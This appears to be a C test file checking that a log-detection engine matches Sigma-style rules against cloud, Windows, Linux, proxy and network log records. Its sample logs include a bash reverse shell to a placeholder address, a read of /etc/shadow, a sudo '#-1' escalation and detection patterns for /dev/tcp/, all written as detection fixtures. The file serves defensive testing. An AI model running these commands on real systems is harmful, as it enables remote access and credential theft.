/* Records as the products themselves write them, by the names that published rules ask for: EVIDENCE for
 * docs/conformance.md. */
#include "shapes.h"
#include "test.h"

#define GCP(method) "{\"logName\":\"projects/p/logs/cloudaudit.googleapis.com%2Factivity\",\"resource\":" \
                    "{\"type\":\"k8s_cluster\"},\"protoPayload\":{\"methodName\":\"" method "\"," \
                    "\"serviceName\":\"storage.googleapis.com\"}}"
#define SIGNIN(more) "{\"time\":\"2026-01-01T00:00:00Z\",\"category\":\"SignInLogs\"," \
                     "\"operationName\":\"Sign-in activity\"," more "}"
#define AUDIT(more) "{\"time\":\"2026-01-01T00:00:00Z\",\"category\":\"AuditLogs\"," \
                    "\"operationName\":\"Read BitLocker key\"," \
                    "\"properties\":{\"loggedByService\":\"Core\"," more "}}"
#define AUDIT_TABLE(more) "{\"TimeGenerated\":\"2026-01-01T00:00:00Z\",\"Type\":\"AuditLogs\"," more "}"
#define PODS(more) "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"verb\":\"create\"," \
                   "\"objectRef\":{\"resource\":\"pods\",\"apiGroup\":\"apps\"}," \
                   "\"requestObject\":{\"spec\":{" more "}}}"

/* EVIDENCE sigma-2/shape-cloud */
TEST("clouds by the names that published rules ask for, in each shape that their logs come in")
{
    static const struct shape rows[] = {
        { "Google's own JSON, asked as Filebeat names it", "product: gcp, service: gcp.audit",
          "gcp.audit.method_name: storage.buckets.delete", GCP("storage.buckets.delete"),
          GCP("storage.buckets.get") },
        { "the same, asked as in a Pub/Sub message", "product: gcp, service: gcp.audit",
          "data.protoPayload.resource.type: k8s_cluster", GCP("a"),
          "{\"resource\":{\"type\":\"k8s_cluster\"},\"protoPayload\":{\"serviceName\":\"a\"}}" },
        { "in a Pub/Sub message", "product: gcp, service: gcp.audit", "gcp.audit.method_name: a",
          "{\"data\":{\"protoPayload\":{\"methodName\":\"a\"}}}",
          "{\"data\":{\"protoPayload\":{\"methodName\":\"b\"}}}" },
        { "Workspace in Cloud Logging", "product: gcp, service: google_workspace.admin",
          "eventName: DELETE_ROLE",
          "{\"protoPayload\":{\"serviceName\":\"admin.googleapis.com\",\"metadata\":{\"event\":["
          "{\"eventName\":\"DELETE_ROLE\"}]}}}",
          "{\"protoPayload\":{\"serviceName\":\"login.googleapis.com\",\"metadata\":{\"event\":["
          "{\"eventName\":\"DELETE_ROLE\"}]}}}" },
        { "sign-ins by diagnostic settings", "product: azure, service: signinlogs", "ResultType: 50053",
          SIGNIN("\"resultType\":\"50053\""), SIGNIN("\"resultType\":\"0\"") },
        { "their properties", "product: azure, service: signinlogs", "userAgent|contains: axios",
          SIGNIN("\"properties\":{\"userAgent\":\"axios/1.7\"}"),
          SIGNIN("\"properties\":{\"userAgent\":\"curl\"}") },
        { "sign-ins by Graph", "product: azure, service: signinlogs", "ResultType: 50053",
          "{\"appDisplayName\":\"a\",\"conditionalAccessStatus\":\"failure\","
          "\"status\":{\"errorCode\":50053}}",
          "{\"appDisplayName\":\"a\",\"conditionalAccessStatus\":\"failure\",\"status\":{\"errorCode\":0}}" },
        { "sign-ins as a table", "product: azure, service: signinlogs", "conditionalAccessStatus: success",
          "{\"AppDisplayName\":\"a\",\"ConditionalAccessStatus\":\"success\"}",
          "{\"AppDisplayName\":\"a\",\"ConditionalAccessStatus\":\"failure\"}" },
        { "audit by diagnostic settings, its name", "product: azure, service: auditlogs",
          "OperationName: Read BitLocker key", AUDIT("\"category\":\"KeyManagement\""),
          "{\"category\":\"SignInLogs\",\"operationName\":\"Read BitLocker key\"}" },
        { "audit by diagnostic settings, its category", "product: azure, service: auditlogs",
          "Category: KeyManagement", AUDIT("\"category\":\"KeyManagement\""),
          AUDIT("\"category\":\"Other\"") },
        { "audit as a table", "product: azure, service: auditlogs", "properties.message: Add user",
          AUDIT_TABLE("\"OperationName\":\"Add user\",\"LoggedByService\":\"Core\","
          "\"Category\":\"UserManagement\""),
          AUDIT_TABLE("\"OperationName\":\"Delete user\",\"LoggedByService\":\"Core\"") },
        { "audit by Graph", "product: azure, service: auditlogs", "OperationName: Add user",
          "{\"activityDisplayName\":\"Add user\",\"loggedByService\":\"Core\"}",
          "{\"activityDisplayName\":\"Add users\",\"loggedByService\":\"Core\"}" },
        { "activity as a table", "product: azure, service: activitylogs",
          "operationName: MICROSOFT.KEYVAULT/VAULTS/WRITE",
          "{\"OperationNameValue\":\"MICROSOFT.KEYVAULT/VAULTS/WRITE\",\"CategoryValue\":\"Administrative\"}",
          "{\"OperationNameValue\":\"MICROSOFT.KEYVAULT/VAULTS/READ\","
          "\"CategoryValue\":\"Administrative\"}" },
        { "risks of users", "product: azure, service: riskdetection", "riskEventType: leakedCredentials",
          "{\"category\":\"UserRiskEvents\",\"properties\":{\"riskEventType\":\"leakedCredentials\"}}",
          "{\"category\":\"UserRiskEvents\",\"properties\":{\"riskEventType\":\"newCountry\"}}" },
        { "alerts of PIM", "product: azure, service: pim",
          "riskEventType: noMfaOnRoleActivationAlertIncident",
          "{\"riskEventType\":\"noMfaOnRoleActivationAlertIncident\"}",
          "{\"riskEventType\":\"newCountry\"}" },
        { "a pod with a folder of its host", "product: kubernetes, service: audit", "hostPath: '*'",
          PODS("\"volumes\":[{\"name\":\"v\",\"hostPath\":{\"path\":\"/\"}}]"),
          PODS("\"volumes\":[{\"name\":\"v\",\"emptyDir\":{}}]") },
        { "a pod with capabilities", "product: kubernetes, category: application, service: audit",
          "capabilities: '*'",
          PODS("\"containers\":[{\"securityContext\":{\"capabilities\":{\"add\":[\"A\"]}}}]"),
          PODS("\"containers\":[{\"securityContext\":{}}]") },
        { "Duo's log of logins", "product: cisco, service: duo", "reason: bypass_user",
          "{\"event_type\":\"authentication\",\"factor\":\"n\",\"txid\":\"t\",\"reason\":\"bypass_user\"}",
          "{\"event_type\":\"authentication\",\"factor\":\"n\",\"txid\":\"t\",\"reason\":\"ok\"}" },
    };
    CHECK_SHAPES(rows);
}

#define SYSMON_ECS(fields) \
    "{\"event\":{\"code\":1,\"category\":[\"process\"],\"type\":[\"start\"]},\"winlog\":{\"channel\":" \
    "\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":1,\"event_data\":{\"LogonId\":\"1\"}}," fields "}"
#define DEFEND(category, type, fields) \
    "{\"host\":{\"os\":{\"type\":\"windows\"}},\"event\":{\"category\":[\"" category "\"]," \
    "\"type\":[\"" type "\"]}," \
    fields "}"
#define CLASSIC(data) "{\"winlog\":{\"channel\":\"Windows PowerShell\",\"event_id\":400,\"provider_name\":" \
                      "\"PowerShell\",\"event_data\":{" data "}}}"

/* EVIDENCE sigma-2/shape-ecs sigma-2/shape-winlogbeat */
TEST("Windows by ECS: Winlogbeat's module for Sysmon, Elastic's own sensor, data without names")
{
    static const struct shape rows[] = {
        { "Sysmon, moved", "product: windows, category: process_creation", "CommandLine|contains: whoami",
          SYSMON_ECS("\"process\":{\"command_line\":\"whoami /all\"}"),
          SYSMON_ECS("\"process\":{\"title\":\"whoami /all\"}") },
        { "its parent", "product: windows, category: process_creation", "ParentImage|endswith: '\\x.exe'",
          SYSMON_ECS("\"process\":{\"parent\":{\"executable\":\"C:\\\\x.exe\"}}"),
          SYSMON_ECS("\"process\":{\"executable\":\"C:\\\\x.exe\"}") },
        { "a process", "product: windows, category: process_creation", "Image|endswith: '\\x.exe'",
          DEFEND("process", "start", "\"process\":{\"executable\":\"C:\\\\x.exe\"}"),
          DEFEND("process", "end", "\"process\":{\"executable\":\"C:\\\\x.exe\"}") },
        { "a value of the registry", "product: windows, category: registry_set", "TargetObject|contains: Run",
          DEFEND("registry", "change", "\"registry\":{\"path\":\"HKLM\\\\Run\\\\a\"}"),
          DEFEND("registry", "access", "\"registry\":{\"path\":\"HKLM\\\\Run\\\\a\"}") },
        { "a library", "product: windows, category: image_load", "ImageLoaded|endswith: a.dll",
          DEFEND("library", "start", "\"dll\":{\"path\":\"C:\\\\a.dll\"}"),
          DEFEND("process", "start", "\"dll\":{\"path\":\"C:\\\\a.dll\"}") },
        { "data without names", "product: windows, category: ps_classic_start",
          "Data|contains: EngineVersion=2",
          CLASSIC("\"param1\":\"Available\",\"param3\":\"HostVersion=5\\n\\tEngineVersion=2.0\""),
          CLASSIC("\"other\":\"EngineVersion=2.0\"") },
        { "a hit of Elasticsearch", "product: windows, category: process_creation", "CommandLine: whoami",
          "{\"_index\":\"a\",\"_source\":" SYSMON_ECS("\"process\":{\"command_line\":\"whoami\"}") "}",
          "{\"_index\":\"a\",\"source\":" SYSMON_ECS("\"process\":{\"command_line\":\"whoami\"}") "}" },
        { "RPC Firewall", "product: rpc_firewall, category: application", "EventLog: RPCFW",
          "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"RPCFW\"}},\"EventID\":3,"
          "\"Channel\":\"RPCFW\"},\"EventData\":{\"OpNum\":\"3\"}}}",
          "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"a\"}},\"EventID\":3,"
          "\"Channel\":\"Application\"},\"EventData\":{\"OpNum\":\"3\"}}}" },
    };
    CHECK_SHAPES(rows);
}

#define SQUID(url) "1767225600.123 456 10.1.2.30 TCP_MISS/200 1234 GET " url " - HIER_DIRECT/203.0.113.77 a/b"
#define ACCESS "203.0.113.7 - - [01/Jan/2026:07:00:00 +0700] \"GET /x.class HTTP/1.1\" 200 5 \"-\" \"curl/8\""
#define EXECVE "type=EXECVE msg=audit(1767225600.123:456): argc=2 a0=\"cat\" a1=2F6574632F736861646F77"

/* EVIDENCE sigma-2/shape-text sigma-2/shape-devices sigma-2/shape-zeek */
TEST("files of Linux, proxies, web servers and devices as they are found on disks")
{
    static const struct shape rows[] = {
        { "a file of syslog has no facility", "product: linux, service: syslog", "'|contains': /dev/tcp/",
          "Jan  1 07:00:00 web01 myapp[9]: bash -i >& /dev/tcp/192.0.2.7/443 0>&1",
          "<189>Jan  1 2026 07:00:00 fw : %ASA-6-302014: Teardown /dev/tcp/ connection" },
        { "any Linux", "product: linux", "'|contains': /dev/tcp/",
          "2026-01-01T07:00:00.123456+07:00 web01 myapp[9]: bash -i >& /dev/tcp/192.0.2.7/443 0>&1", ACCESS },
        { "the host in a proxy's URL", "category: proxy", "cs-host|endswith: .hopto.org",
          SQUID("http://lan@x.hopto.org:8080/a.exe"), SQUID("http://hopto.example/a.hopto.org") },
        { "the host of a tunnel", "category: proxy", "cs-host: x.example",
          "1767225600.123 4 10.1.2.30 TCP_TUNNEL/200 12 CONNECT x.example:443 - HIER_DIRECT/203.0.113.77 -",
          SQUID("http://y.example/") },
        { "a web server that logs its name is no proxy", "category: webserver", "cs-host: 'www.x.vn:80'",
          "www.x.vn:80 " ACCESS, ACCESS },
        { "commands of a device", "product: cisco, service: aaa", "'|contains': dir",
          "<189>45: sw: Jan  1 07:00:00 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:lan  logged command:dir flash:",
          "<189>Jan  1 2026 07:00:00 fw : %ASA-6-302013: network directly connected" },
        { "FortiGate's name server", "category: dns", "query: bad.example",
          "date=2026-01-01 time=07:00:00 devname=FG devid=FG1 type=utm subtype=dns qname=bad.example qtype=A",
          "date=2026-01-01 time=07:00:00 devname=FG devid=FG1 type=traffic qname=bad.example" },
        { "audit records of another node", "product: linux, service: auditd", "a1: /etc/shadow",
          "node=web01 " EXECVE,
          "node=web01 type=SYSCALL msg=audit(1767225600.123:456): a1=2F6574632F736861646F77" },
        { "audit records by the daemon's name", "product: linux, service: auditd", "a1: /etc/shadow",
          "<14>Jan  1 07:00:00 web01 auditd: " EXECVE, "<14>Jan  1 07:00:00 web01 auditd: a1 /etc/shadow" },
        { "audit records as JSON", "product: linux, service: auditd", "a0: getcap",
          "{\"type\":\"EXECVE\",\"argc\":\"3\",\"a0\":\"getcap\"}",
          "{\"type\":\"EXECVE\",\"a0\":\"getcap\"}" },
        { "sudo as the user -1", "product: linux, service: sudo", "USER: '#-1'",
          "Jan  1 07:00:00 web01 sudo:  lan : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/bash",
          "Jan  1 07:00:00 web01 sudo:  lan : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash" },
        { "a remote desktop without a cookie", "product: zeek, service: rdp", "id.orig_h: 203.0.113.9",
          "{\"uid\":\"C1\",\"id.orig_h\":\"203.0.113.9\",\"result\":\"encrypted\","
          "\"security_protocol\":\"HYBRID\"}",
          "{\"uid\":\"C1\",\"id.orig_h\":\"203.0.113.9\",\"result\":\"encrypted\"}" },
        { "Zeek's http by the names of proxies", "product: zeek, service: http", "c-uri|contains: evil",
          "{\"_path\":\"http\",\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.1\",\"uri\":\"/evil\"}",
          "{\"_path\":\"http\",\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.1\",\"host\":\"evil\"}" },
        { "flows", "service: netflow", "destination.port: 4444",
          "{\"event_type\":\"netflow\",\"flow_id\":1,\"dest_port\":4444}",
          "{\"event_type\":\"netflow\",\"flow_id\":1,\"src_port\":4444}" },
    };
    CHECK_SHAPES(rows);
}
